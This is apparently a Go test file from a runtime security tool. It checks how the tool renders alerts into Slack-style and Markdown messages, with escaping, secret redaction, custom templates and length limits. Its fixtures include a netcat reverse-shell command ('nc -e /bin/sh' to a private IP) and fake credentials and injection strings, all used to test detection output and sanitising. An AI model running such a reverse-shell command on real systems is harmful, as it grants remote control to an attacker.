package notify

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stoop-project/stoop/internal/event"
	"github.com/stoop-project/stoop/internal/rules"
	"github.com/stoop-project/stoop/internal/safetext"
)

func groupOf(a *Alert, count int) *group {
	return &group{alert: a, count: count, first: a.Time, last: a.Time}
}

func TestMessage(t *testing.T) {
	a := alertOf("Command shell through netcat", "web-0", start)
	a.Guide = rules.Guide{Investigate: []string{"Where does it connect to?"}, Respond: []string{"Isolate the pod."}}
	a.Open = "stoop open --id a1 trail.stoop"
	l, err := render(builtin, mrkdwn, true, groupOf(a, 30000))
	if err != nil {
		t.Fatal(err)
	}
	want := letter{
		Title:    "Critical: Command shell through netcat in shop/web-0 (30000 times)",
		Alerts:   30000,
		Severity: 3,
		Body: "Shell through netcat\n" +
			"Command: `nc -e /bin/sh 10.0.0.1 4444` of `sh`\n" +
			"Pod: `shop/web-0`\n" +
			"Tactic: execution (T1059.004)\n" +
			"Time: 2026-11-23 20:02:01Z to 2026-11-23 20:02:01Z, 30000 alerts\n" +
			"Trail: `stoop open --id a1 trail.stoop`\n" +
			"Investigate:\n• Where does it connect to?\n" +
			"Respond:\n• Isolate the pod.",
	}
	if l != want {
		t.Errorf("%+v\nis not\n%+v", l, want)
	}
}

func TestTemplate(t *testing.T) {
	a := alertOf("R", "web-0", start)
	a.Fields = append(a.Fields, Field{"proc.env", []byte(`"API_TOKEN=abcdefgh12345678"`)})
	tests := []struct{ text, title, body, err string }{
		{text: "{{.Rule}} by {{(.Field \"proc.pname\").Code}}", title: "Critical: R in shop/web-0", body: "R by `sh`"},
		{text: `{{define "title"}}T {{.Count}}{{end}}`, title: "T 1", body: "Shell through"},
		{text: `{{define "title"}}a{{"\n"}}b{{end}}x`, title: `a\nb`, body: "x"},
		{text: `{{.Field "proc.env"}}`, title: "Critical", body: "API\\_TOKEN="},
		{text: `{{.alert.Rule}}`, err: "alert"},
		{text: `{{.Nothing}}`, err: "Nothing"},
		{text: `{{if}}`, err: "template"},
		{text: `{{define "digest"}}{{.Rule}}{{end}}`, err: "Rule"},
	}
	for _, tt := range tests {
		path := filepath.Join(t.TempDir(), "t.tmpl")
		if err := os.WriteFile(path, []byte(tt.text), 0o600); err != nil {
			t.Fatal(err)
		}
		words, err := Template(path)
		if err != nil || tt.err != "" {
			if err == nil || tt.err == "" || !strings.Contains(err.Error(), tt.err) {
				t.Errorf("%s: %v", tt.text, err)
			}
			continue
		}
		l, err := render(words, markdown, true, groupOf(a, 1))
		if err != nil || !strings.HasPrefix(l.Title, tt.title) || !strings.HasPrefix(l.Body, tt.body) || strings.Contains(l.Body, "abcdefgh") {
			t.Errorf("%s: %+v, %v", tt.text, l, err)
		}
	}
}

// Values have no meaning where they are read.
func TestEscapes(t *testing.T) {
	tests := []struct {
		d          *dialect
		in         string
		text, code string
	}{
		{mrkdwn, "<!channel> *a* `b` & @here", "&lt;!channel&gt; ∗a∗ ˋbˋ &amp; ＠here", "`&lt;!channel&gt; *a* ˋbˋ &amp; @here`"},
		{markdown, "[x](http://a) @everyone _y_ `z`", "\\[x\\](http\\://a) ＠everyone \\_y\\_ \\`z\\`", "`[x](http://a) @everyone _y_ ˋzˋ`"},
		{plain, "a\r\nBcc: x", `a\r\nBcc: x`, `a\r\nBcc: x`},
		{plain, "\x1b]0;t\a", `\x1b]0;t\x07`, `\x1b]0;t\x07`},
		{plain, "curl -u root:hunter22 http://x", "curl -u root:******** http://x", "curl -u root:******** http://x"},
	}
	for _, tt := range tests {
		v := tt.d.value(tt.in, true)
		if v.String() != tt.text || v.Code() != tt.code {
			t.Errorf("%q: %q, %q", tt.in, v, v.Code())
		}
	}
}

// Whatever an alert holds, a message is bounded, on lines of its own, and nothing
// in it has a meaning that the template did not give it.
func FuzzMessage(f *testing.F) {
	f.Add("R", "<!channel> `rm`", "web`-0", "a\nb\x1b[2J", 3)
	f.Add("@everyone", "[a](b)", "\u202e", "password=hunter22", 1)
	f.Fuzz(func(t *testing.T, rule, output, pod, command string, count int) {
		a := &Alert{Time: start, Rule: rule, Output: output, Priority: event.PriorityAlert, Tags: []string{rule}, Hostname: pod, Open: "stoop open"}
		a.Fields = []Field{{"k8s.pod.name", safetext.AppendJSON(nil, pod)}, {"k8s.ns.name", []byte(`"n"`)}, {"proc.cmdline", safetext.AppendJSON(nil, command)}}
		for _, d := range []*dialect{plain, mrkdwn, markdown, short} {
			for _, groups := range [][]*group{{groupOf(a, count)}, {groupOf(a, count), groupOf(a, 1)}} {
				l, err := render(builtin, d, true, groups...)
				if err != nil {
					t.Fatal(err)
				}
				if len(l.Body) > d.most || len(l.Title) > maxTitle+len("…") || !safetext.Safe(l.Title) || !utf8.ValidString(l.Body) || !safetext.Safe(strings.ReplaceAll(l.Body, "\n", "")) {
					t.Errorf("%q: %q", l.Title, l.Body)
				}
				if d == mrkdwn && strings.ContainsAny(l.Title+l.Body, "<>") {
					t.Errorf("%q: %q can begin a link or a mention", l.Title, l.Body)
				}
				for _, line := range strings.Split(l.Body, "\n") {
					if d == mrkdwn && len(line) < d.most-10 && strings.Count(line, "`")%2 != 0 {
						t.Errorf("%q leaves its code span", line)
					}
				}
			}
		}
	})
}

// What does not fit is cut off where a line ends, the mark of it within the bound.
func TestFit(t *testing.T) {
	for most := 8; most < 16; most++ {
		if got := fit([]string{"abcd", "efgh", "ijkl"}, most); len(got) > most {
			t.Errorf("%q has more than %d bytes", got, most)
		}
	}
	if got := fit([]string{"abcd", "efgh", "ijkl"}, 13); got != "abcd\nefgh\n…" {
		t.Errorf("fit: %q", got)
	}
}
